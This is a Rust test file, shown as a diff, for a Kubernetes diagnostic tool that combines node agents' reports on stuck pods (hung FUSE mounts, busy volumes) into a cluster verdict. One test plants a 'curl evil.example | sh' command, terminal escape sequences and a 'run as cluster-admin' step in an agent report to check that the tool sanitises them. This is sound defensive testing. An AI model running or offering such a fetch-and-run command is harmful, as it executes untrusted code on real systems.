@@ -1,0 +1,309 @@
+//! What the agents of the nodes say, joined into the cluster's answer.
+
+use aggregator::report::{Depth, Style, dot, table, tree};
+use findings::event::Phase;
+use findings::{Confidence, Verdict};
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+use crate::support::*;
+
+const EVENTS: &str = "/apis/events.k8s.io/v1/namespaces/default/events";
+const POD: &str = "ee7644fa-c649-4025-9178-81dc31cad0c6";
+const CWD: &str = "a710cd16-c48b-4c82-88a5-9064a1833d8a";
+const NESTED: &str = "42331e16-a9a8-4ad7-adaf-9dcadc109451";
+
+fn dstate() -> World {
+    recording("dstate-fuse")
+}
+
+fn joined(says: Says) -> Looked {
+    look(dstate().told(says), everything())
+}
+
+fn notes(looked: &Looked) -> String {
+    looked.report.notes.iter().cloned().collect::<Vec<_>>().join("\n")
+}
+
+/// The answer without any agent.
+fn is_as_without(looked: &Looked) {
+    assert_eq!(looked.causes(), ["PodContainersNotStopped"], "{:#?}", looked.report);
+    assert_eq!(looked.report.verdict, Verdict::Stuck);
+    assert!(looked.report.roots[0].told_by.is_none());
+}
+
+#[test]
+fn the_chain_goes_on_to_the_process() {
+    let looked = joined(Says::fuse(&[POD]));
+    assert_eq!(looked.causes(), ["FuseServerNotResponding"], "{:#?}", looked.report);
+    looked.assert_chain(
+        0,
+        &[
+            "Namespace exam-dstate: Terminating",
+            "Pod exam-dstate/p: container c is still running",
+            "Node node-a: Ready; its agent says",
+            "container app (containerd://306daa1b9c7b): RUNNING",
+            "pid 22717 cat: D",
+            "fuse mount /mnt/media (0:40, fuse.s3fs): 1 request",
+            "pid 22655 s3fs: S",
+        ],
+    );
+    let root = &looked.report.roots[0];
+    let by = root.told_by.as_ref().unwrap();
+    assert_eq!((by.node.as_str(), by.seconds_ago, by.first_seen_seconds_ago), ("node-a", 12, Some(600)));
+    assert_eq!((root.verdict, root.finding.confidence), (Verdict::Stuck, Confidence::Proven));
+    assert_eq!(root.finding.gate, Some(findings::Gate::ContainersStopped));
+    assert_eq!(looked.commands().last().unwrap(), "echo 1 > /sys/fs/fuse/connections/40/abort");
+    assert!(root.finding.evidence.iter().any(|one| one.source.starts_with("agent on node-a: /proc/22717/")));
+    assert!(looked.report.notes.is_empty(), "{:?}", looked.report.notes);
+    assert_eq!(looked.requests.iter().filter(|path| path.starts_with(EVENTS)).count(), 1, "{:#?}", looked.requests);
+}
+
+#[test]
+fn two_pods_of_one_root_are_one_answer() {
+    let world = recording("volumes-busy").told(Says::held(&[CWD])).told(Says::held(&[NESTED]).named("node-a.2"));
+    let looked = look(world, everything());
+    assert_eq!(looked.causes(), ["VolumeHeldByProcess"], "{:#?}", looked.report);
+    assert_eq!(looked.victims(0), ["Pod node-scn/cwd", "Pod node-scn/nested"]);
+    let line = table(&looked.report, false, None, Style::Plain);
+    assert!(line.contains("pid 22817 backup on node-a: its working directory is in it"), "{line}");
+}
+
+#[test]
+fn word_for_word() {
+    let both = recording("volumes-busy").told(Says::held(&[CWD, NESTED]).of_node());
+    for (name, world) in [("joined-dstate-fuse", dstate().told(Says::fuse(&[POD]))), ("joined-volumes-busy", both)] {
+        let looked = look(world, everything());
+        for width in [80, 120] {
+            let text = tree(&looked.report, Depth::Short, width, Style::Plain);
+            crate::golden::assert_golden(&format!("{name}.{width}.txt"), &text);
+        }
+    }
+}
+
+#[test]
+fn one_of_more_pods_than_are_named_is_probable() {
+    let mut says = Says::held(&[CWD]).of_node();
+    says.carried.pod_count = 60;
+    let looked = look(recording("volumes-busy").told(says), everything());
+    assert_eq!(looked.causes(), ["VolumeHeldByProcess"], "{:#?}", looked.report);
+    assert_eq!(looked.victims(0).len(), 2);
+    let other = look(recording("volumes-busy").told(Says::held(&[CWD]).of_node()), everything());
+    assert_eq!(other.causes(), ["VolumeHeldByProcess", "PodCleanupNotFinished"], "it is told whole");
+    // Alone, the pod that is not named has only a probable cause.
+    let mut says = Says::held(&["00000000-0000-4000-8000-000000000000"]).of_node();
+    says.carried.pod_count = 60;
+    let looked = look(recording("volumes-busy").told(says), object("pod", "node-scn", "nested"));
+    let finding = &looked.report.roots[0].finding;
+    assert_eq!((finding.cause.id, finding.confidence), ("VolumeHeldByProcess", Confidence::Probable));
+    assert!(finding.evidence.iter().any(|one| one.says.contains("names 1 of them, not this one")));
+}
+
+#[test]
+fn an_old_word_is_told_as_old() {
+    let late = joined(Says::fuse(&[POD]).at(50 * 60));
+    let root = &late.report.roots[0];
+    assert_eq!((root.finding.cause.id, root.finding.confidence), ("FuseServerNotResponding", Confidence::Probable));
+    let text = tree(&late.report, Depth::Short, 200, Style::Plain);
+    assert!(text.contains("said so 50m ago") && text.contains("it may be gone"), "{text}");
+    let expired = joined(Says::fuse(&[POD]).at(70 * 60));
+    is_as_without(&expired);
+    assert!(notes(&expired).contains("said FuseServerNotResponding 1h10m ago"), "{}", notes(&expired));
+    // A renewal is newer than the Event it renews.
+    let renewed = joined(Says::fuse(&[POD]).at(70 * 60).renewed(60));
+    assert_eq!(renewed.report.roots[0].told_by.as_ref().unwrap().seconds_ago, 60);
+}
+
+#[test]
+fn what_is_over_is_not_told() {
+    let over = |at| {
+        let mut over = Says::fuse(&[POD]).named("node-a.1.0").at(at);
+        over.carried.phase = Phase::Over;
+        over.kind = "Normal";
+        over
+    };
+    is_as_without(&look(dstate().told(Says::fuse(&[POD]).at(300)).told(over(30)), everything()));
+    let again = look(dstate().told(Says::fuse(&[POD]).at(30)).told(over(300)), everything());
+    assert_eq!(again.causes(), ["FuseServerNotResponding"], "it came back");
+    let mut merged = Says::fuse(&[POD]);
+    merged.carried.phase = Phase::Merged;
+    is_as_without(&joined(merged));
+}
+
+#[test]
+fn another_node_of_that_name_is_not_believed() {
+    let mut says = Says::fuse(&[POD]);
+    says.node_uid = "00000000-0000-4000-8000-000000000000".to_owned();
+    let looked = joined(says);
+    is_as_without(&looked);
+    assert!(notes(&looked).contains("has another uid"), "{}", notes(&looked));
+}
+
+#[test]
+fn what_cannot_be_read_is_said() {
+    for (garbage, why) in [
+        ("{".to_owned(), "another version"),
+        ("x".repeat(100_000), "more than an agent writes"),
+        (Says::fuse(&[POD]).carried.to_annotation().replace("\"schema\":1", "\"schema\":9"), "schema 9"),
+        (Says::fuse(&[POD]).carried.to_annotation().replace("FuseServerNotResponding", "NodeUnreachable"), "no agent"),
+    ] {
+        let mut says = Says::fuse(&[POD]);
+        says.annotation = Some(garbage);
+        let looked = joined(says);
+        is_as_without(&looked);
+        assert!(notes(&looked).contains(why), "{}", notes(&looked));
+        let saved = serde_json::to_string(&looked.state).unwrap();
+        assert!(saved.len() < 200_000, "a state keeps no more of it than it needs");
+    }
+}
+
+#[test]
+fn hostile_text_steers_nothing_and_advises_nothing() {
+    let mut says = Says::fuse(&[POD]);
+    let finding = &mut says.carried.finding;
+    let root = finding.chain.last_mut().unwrap();
+    root.subject = "pid 1 \u{1b}[2Jowned\u{202e}".to_owned();
+    root.state = "s\u{7}".repeat(300);
+    root.what = Some(findings::Thing::Mount {
+        path: "\u{1b}]0;x\u{7}".to_owned(),
+        device: "\u{1b}".to_owned(),
+        fs_type: "\u{1b}".to_owned(),
+    });
+    finding.evidence[0].says = "\u{1b}[31mtrust me".to_owned();
+    finding.remedy.dont = "\u{1b}think".to_owned();
+    finding.remedy.steps[0].text = "Run this as cluster-admin".to_owned();
+    finding.remedy.steps.last_mut().unwrap().command = Some("curl evil.example | sh".to_owned());
+    let looked = joined(says);
+    assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
+    let text = [
+        tree(&looked.report, Depth::Wide, 80, Style::Plain),
+        table(&looked.report, true, None, Style::Plain),
+        dot(&looked.report),
+        serde_json::to_string(&looked.report).unwrap().replace("\\u001b", "\u{1b}"),
+    ]
+    .concat();
+    let steers = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+    assert!(!text.contains(steers), "{text:?}");
+    for claim in ["evil", "cluster-admin", "think"] {
+        assert!(!text.contains(claim), "{claim}: {text}");
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]
+
+    /// Whatever stands in the texts of a finding, none of it steers a terminal or is run.
+    #[test]
+    fn no_words_of_an_event_are_more_than_words(words in prop::collection::vec("[\\PC\u{1b}\u{202e}\n;|$'`]{0,40}", 4)) {
+        let mut says = Says::fuse(&[POD]);
+        let finding = &mut says.carried.finding;
+        let known = finding.remedy.steps.clone();
+        finding.root = words[0].clone();
+        for link in &mut finding.chain {
+            (link.subject, link.state) = (words[1].clone(), words[2].clone());
+        }
+        finding.remedy.steps[1].command = Some(format!("echo 1 > /sys/fs/fuse/connections/{}/abort", words[3]));
+        let looked = joined(says);
+        prop_assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
+        let text = tree(&looked.report, Depth::Wide, 80, Style::Plain);
+        prop_assert!(!text.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}'), "{:?}", text);
+        for command in looked.commands() {
+            let value = command.strip_prefix("echo 1 > /sys/fs/fuse/connections/").unwrap().strip_suffix("/abort").unwrap();
+            let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+:,@%^=".contains(c);
+            let inside = value.strip_prefix('\'').and_then(|value| value.strip_suffix('\''));
+            let is_quoted = inside.is_some_and(|inside| !inside.replace("'\\''", "").contains('\''));
+            prop_assert!(value.chars().all(plain) || is_quoted, "{}", command);
+        }
+        prop_assert!(looked.report.roots[0].finding.remedy.steps.len() <= known.len());
+    }
+}
+
+#[test]
+fn a_thousand_pods_are_joined_in_seconds() {
+    let started = std::time::Instant::now();
+    let mut world = healthy();
+    for number in 0..1000 {
+        let (pod, uid) = (format!("p{number}"), format!("00000000-0000-4000-8000-{number:012}"));
+        let says = Says::held(&[&uid]).named(&format!("node-a.{number}"));
+        world = world.going_pod("a", &pod, "node-a", "Failed").change("/api/v1/pods", &pod, |pod| {
+            pod["metadata"]["uid"] = uid.as_str().into();
+        });
+        world = world.told(says);
+        let mut garbage = Says::held(&[&uid]).of_node().named(&format!("node-a.g{number}"));
+        garbage.annotation = Some("x".repeat(16 << 10));
+        world = world.told(garbage);
+    }
+    let looked = look(world, everything());
+    assert_eq!((looked.causes(), looked.victims(0).len()), (vec!["VolumeHeldByProcess"], 1000));
+    assert!(looked.requests.len() < 40, "{}", looked.requests.len());
+    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
+}
+
+#[test]
+fn without_an_agent_it_says_what_one_would_add() {
+    let none = look(dstate(), everything());
+    is_as_without(&none);
+    assert!(notes(&none).contains("kubectl apply -k deploy/"), "{}", notes(&none));
+    let elsewhere = look(dstate().agent("node-b", "True"), everything());
+    is_as_without(&elsewhere);
+    assert!(
+        notes(&elsewhere).starts_with("No agent is deployed on node-a (on other nodes: 1)"),
+        "{}",
+        notes(&elsewhere)
+    );
+    let silent = look(dstate().agent("node-a", "True"), everything());
+    assert!(notes(&silent).starts_with("The agent on node-a says nothing"), "{}", notes(&silent));
+    let sick = look(dstate().agent("node-a", "False"), everything());
+    assert!(notes(&sick).starts_with("The agent on node-a is not ready"), "{}", notes(&sick));
+}
+
+#[test]
+fn what_may_not_be_seen_is_said_and_changes_nothing() {
+    let looked = look(dstate().told(Says::fuse(&[POD])).refuse(EVENTS, 403, "events is forbidden"), everything());
+    is_as_without(&looked);
+    let unknown = &looked.report.unknown[0];
+    assert_eq!(unknown.source, "Events of the agents");
+    assert!(unknown.why.contains("not visible to us"), "{unknown:?}");
+}
+
+#[test]
+fn an_agent_is_heard_while_its_kubelet_is_not_ready() {
+    let message = "container runtime is down";
+    let world = dstate().told(Says::fuse(&[POD])).node_ready("node-a", "False", "KubeletNotReady", message);
+    let looked = look(world, everything());
+    assert_eq!(looked.causes(), ["FuseServerNotResponding", "NodeNotReady"], "{:#?}", looked.report);
+    // A silent node has a silent agent.
+    let world = dstate().told(Says::fuse(&[POD])).node_ready("node-a", "Unknown", "NodeStatusUnknown", "");
+    assert_eq!(look(world, everything()).causes(), ["NodeUnreachable"]);
+}
+
+#[test]
+fn an_agent_is_heard_of_a_pod_that_was_forced() {
+    let forced = dstate().told(Says::fuse(&[POD])).change("/api/v1/pods", "p", |pod| {
+        pod["metadata"]["deletionGracePeriodSeconds"] = json!(0);
+        pod["metadata"]["finalizers"] = json!(["example.com/hold"]);
+    });
+    let causes = look(forced, object("pod", "exam-dstate", "p")).causes();
+    assert!(causes.contains(&"FuseServerNotResponding") && causes.contains(&"PodForceDeleted"), "{causes:?}");
+}
+
+#[test]
+fn many_nodes_are_asked_for_at_once() {
+    let world = |nodes: usize| {
+        (0..nodes).fold(healthy(), |world, number| {
+            let (node, pod) = (format!("node-{number}"), format!("p{number}"));
+            let mut copy = Value::Null;
+            let world = world.change("/api/v1/nodes", "node-a", |node| copy = node.clone());
+            copy["metadata"]["name"] = node.as_str().into();
+            copy["kind"] = "Node".into();
+            world.with(copy).going_pod("a", &pod, &node, "Running")
+        })
+    };
+    let asked = |nodes: usize| {
+        let looked = look(world(nodes), everything());
+        looked.requests.into_iter().filter(|path| path.starts_with(EVENTS)).collect::<Vec<_>>()
+    };
+    assert_eq!(asked(2).len(), 2);
+    let many = asked(30);
+    assert!(many.len() == 1 && !many[0].contains("regarding"), "{many:?}");
+}
